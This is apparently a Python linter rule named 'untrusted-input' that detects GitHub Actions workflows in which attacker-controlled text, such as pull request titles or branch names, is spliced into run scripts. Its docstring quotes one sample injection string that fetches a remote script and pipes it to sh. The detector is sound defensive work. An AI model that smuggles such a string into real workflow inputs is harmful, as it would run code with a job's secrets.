"""The rule `untrusted-input`."""

from collections.abc import Iterator

from ciconv.diagnostics import Diagnostic, Severity
from ciconv.ir.expression import Call, Expr, operands
from ciconv.validators.github import with_actions
from ciconv.validators.github.expressions import Placed, placed
from ciconv.validators.github.untrusted import untrusted_path, untrusted_whole
from ciconv.validators.github.workflow import Workflow, inside_step, text_of
from ciconv.validators.rule import Rule
from ciconv.validators.subject import Subject

_HARMLESS = frozenset("contains startswith endswith hashfiles".split())  # noqa: SIM905
_SCRIPT_INPUTS = {  # of actions that run a text
    "actions/github-script": ("script",),
    "addnab/docker-run-action": ("run", "options"),
    "amadevus/pwsh-script": ("script",),
    "appleboy/ssh-action": ("script",),
    "azure/cli": ("inlinescript",),
    "azure/powershell": ("inlinescript",),
    "cardinalby/js-eval-action": ("expression",),
    "jannekem/run-python-script-action": ("script",),
    "mikefarah/yq": ("cmd",),
    "nick-fields/retry": ("command", "on_retry_command", "new_command_on_retry"),
}


class UntrustedInput(Rule):
    """Text that anybody may write becomes part of a script, and so may be run.

    The title of a pull request, the name of a branch, a comment: who writes
    `"; curl https://… | sh; "` there runs it with the rights and the secrets of the job. Hand it
    over as a variable, and quote the variable:

        env:
          TITLE: ${{ github.event.pull_request.title }}
        run: echo "$TITLE"
    """

    code = "untrusted-input"
    summary = "text of strangers in a script"
    severity = Severity.ERROR

    def check(self, subject: Subject) -> Iterator[Diagnostic]:
        """Yield the expressions in scripts whose value a stranger chooses."""
        for workflow in with_actions(subject):
            for one in placed(workflow, subject):
                if _is_script(one, workflow):
                    for part in one.parts:
                        yield from self._search(part, one)

    def _search(self, expr: Expr, one: Placed) -> Iterator[Diagnostic]:
        if isinstance(expr, Call) and expr.function.lower() in _HARMLESS:
            return
        path = untrusted_path(expr)
        if isinstance(expr, Call) and expr.function.lower() == "tojson":  # of all that is inside
            path = "".join(map(untrusted_whole, expr.arguments))
        if path:
            said = f"{path!r} may hold anything, and becomes part of a script here"
            advice = "set a variable of 'env' to it, and use that in quotes"
            yield self.found(expr.span or one.site.scalar.span, said, advice)
            for inner in operands(expr):
                yield from self._keys(inner, one)
            return
        for inner in operands(expr):
            yield from self._search(inner, one)

    def _keys(self, expr: Expr, one: Placed) -> Iterator[Diagnostic]:
        """Keys inside of brackets are values as well."""
        for inner in operands(expr):
            yield from self._search(inner, one)


def _is_script(one: Placed, workflow: Workflow) -> bool:
    path = inside_step(one.site.path)
    if path[:1] == ("run",):
        return True
    if path[:1] != ("with",) or len(path) < 2:
        return False
    step = workflow.step_at(one.site.path)
    uses = (text_of(step, "uses") or "").partition("@")[0].lower()
    return path[1].lower() in _SCRIPT_INPUTS.get(uses, ())
